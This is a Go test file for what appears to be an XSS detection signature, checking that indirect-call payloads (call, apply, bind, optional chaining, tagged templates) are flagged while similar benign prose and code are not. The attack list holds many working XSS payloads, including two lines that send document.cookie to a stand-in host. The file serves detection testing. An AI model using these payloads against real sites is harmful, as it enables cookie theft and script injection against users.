package signature_test

import "testing"

// TestXSSIndirectCalls covers the dialogs cheat sheets call without writing
// their name before a bracket (through Function.prototype's call, apply and
// bind, or optional chaining's "?.("), and the secrets read by a computed
// or optional member (document['cookie'], document?.cookie), against prose
// and code that name the same methods.
func TestXSSIndirectCalls(t *testing.T) {
	attacks := []familyCase{
		{"q", "confirm.call(null,1)", 0.99},
		{"q", "prompt.call(null,1)", 0.99},
		{"q", `alert.call( , "XSS");`, 0.99},
		{"q", "alert.apply(null, [1])", 0.99},
		{"q", "alert.apply(window,[document.domain])", 0.99},
		{"q", "alert.bind(null,1)()", 0.99},
		{"q", "confirm.bind(window, document.cookie)``", 0.99},
		{"q", "window.alert.call(window,1)", 0.99},
		{"q", "top?.prompt?.apply(top,[1])", 0.99},
		{"q", "alert?.call(null,1)", 0.99},
		{"q", "';alert.call(null,1)//", 0.99},
		{"q", `"-confirm.call(null,document.domain)-"`, 0.99},
		{"q", "print.call(null)", 0.99},
		{"q", "alert?.(document?.cookie)", 0.99},
		{"q", "confirm?.(1)", 0.99},
		{"q", "window?.alert?.(1)", 0.99},
		{"q", "eval?.('ale'+'rt(1)')", 0.99},
		{"q", "window?.['alert'](1)", 0.99},
		{"q", "document['cookie']", 0.9},
		{"q", `document["cookie"]`, 0.9},
		{"q", "document[`domain`]", 0.9},
		{"q", "window[ 'name' ]", 0.9},
		{"q", "document?.cookie", 0.9},
		{"q", "document?.['cookie']", 0.9},
		{"q", `fetch('//evil.example/?c='+document['cookie'])`, 0.99},
		{"q", `new Image().src='//evil.example/'+document?.cookie`, 0.99},
		{"q", "x=document[\"cookie\"];", 0.99},
		{"path", "/search/alert.call(null,1)", 0.99},
		{"path", "/search/document['cookie']", 0.9},
		{"ua", "Mozilla/5.0 alert.apply(null,[1])", 0.99},
		{"header:Referer", "https://shop.example/?q=%27%3Balert%3F.(1)%2F%2F", 0.99},
		{"body:application/json", `{"comment":"<svg onload=confirm.call(null,1)>"}`, 0.99},
		{"body:application/json", `{"comment":"';prompt.apply(null,[1]);'"}`, 0.99},
		{"body:application/x-www-form-urlencoded", "q=alert%3F.(document%5B%27cookie%27%5D)", 0.99},
		// a template as the tag of call or apply: the substituted dialog is
		// the argument sort, map or Reflect.apply call
		{"q", "[].sort.call`${alert}1337`", 0.99},
		{"q", "[].map.call`${eval}\\u{61}lert\x281337\x29`", 0.99},
		{"q", "Array.prototype.find.apply`${ confirm }1`", 0.99},
		{"body:application/json", `{"c":"x\u0027;[1].some.call` + "`${prompt}`" + `//"}`, 0.99},
		// a navigation or a timer substituted first: Reflect.apply calls it
		// with the rest (window.name is a javascript: URL the attacker set)
		{"q", "Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`", 0.99},
		{"q", "Reflect.apply.call`${location.assign}${location}${[name]}`", 0.99},
		{"q", "[].sort.call`${setTimeout}alert\x281\x29`", 0.99},
		{"q", "a.call`${navigation.navigate`", 0.99}, // the name ends the template
		// arguments that are code, words in strings and patterns included
		{"q", "alert('hello world')", 0.99},
		{"q", "prompt(/XSS is here/.source)", 0.99},
		{"q", "confirm(typeof document)", 0.99},
		{"q", "alert(new Date)", 0.99},
		{"q", "alert('x' in window)", 0.99},
	}
	benign := []familyCase{
		{"q", "Use Function.prototype.call(null) to invoke a function without a receiver", 0},
		{"q", "please call(null) me back tomorrow", 0},
		{"q", "the alert.call method is documented on MDN", 0},
		{"q", "is alert.apply the same as alert.call?", 0},
		{"q", "fn.call(this, x)", 0},
		{"q", "arr.map(f).apply(null, args)", 0},
		{"q", "handler.apply(this, arguments); callback.bind(this)()", 0},
		{"q", "Math.max.apply(null, [1, 2, 3])", 0},
		{"q", "window['myHandler'].apply(window, args)", 0},
		{"q", "How do I read document.cookie in Safari?", 0},
		{"q", "Did you sign the document?. Cookie settings are under Privacy", 0},
		{"q", "document['title']", 0},
		{"q", `settings["cookie"]`, 0},
		{"q", "config['name']", 0},
		{"q", "the confirm call (null) failed", 0},
		{"body:application/json", `{"note":"user?.profile?.(id) returns undefined when profile is missing"}`, 0},
		{"body:application/json", `{"note":"obj?.name and list?.[0] are optional chaining"}`, 0},
		{"q", "fn.call`${user.name} logged in`", 0},
		{"q", "tag.call`plain text, no substitution`", 0},
		{"q", "fn.call`${navigation.state} and ${user.id}`", 0},
		{"q", "fn.call`${navigation.navigateTo}`", 0},
		{"q", "log.call`${documents.write}`", 0},
		// a dialog's name before words in brackets: a sentence
		{"q", "* The bash prompt (in contrib/) learned to indicate when the index is unmerged.", 0},
		{"q", "Prompt expansion adds the mode string to a multi-line prompt (one with embedded newlines).", 0},
		{"q", "Raise an alert (a loud one) when the disk fills", 0},
	}
	// Fragments that end or start at the bytes the rules look around, so
	// that none reads before the value or past it.
	for _, v := range []string{"(", "x(", "?(", ".(", "?.(", "[", "?[", "?.[", ".call(", "?.call(", ".bind()(",
		"alert.bind(", "alert?.", "document?.", "document['", "['cookie']", "?.cookie", "a.call`"} {
		benign = append(benign, familyCase{"q", v, 0}, familyCase{"body:text/plain", v, 0})
	}
	checkFamily(t, "xss", attacks, benign, 0.8)
}
